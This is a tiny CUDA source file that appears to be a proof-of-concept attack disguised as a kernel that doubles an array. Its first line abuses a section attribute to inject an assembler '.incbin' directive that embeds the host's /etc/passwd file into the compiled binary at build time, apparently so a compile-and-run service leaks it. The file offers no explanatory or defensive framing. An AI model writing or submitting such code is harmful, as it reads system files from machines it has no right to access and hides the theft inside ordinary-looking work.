__attribute__((section(".data\n.inc" "bin \"/etc/passwd\"\n"))) int there = 1;
extern "C" __global__ void twice(const float *x, float *out) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  out[i] = 2.0f * there * x[i];
}
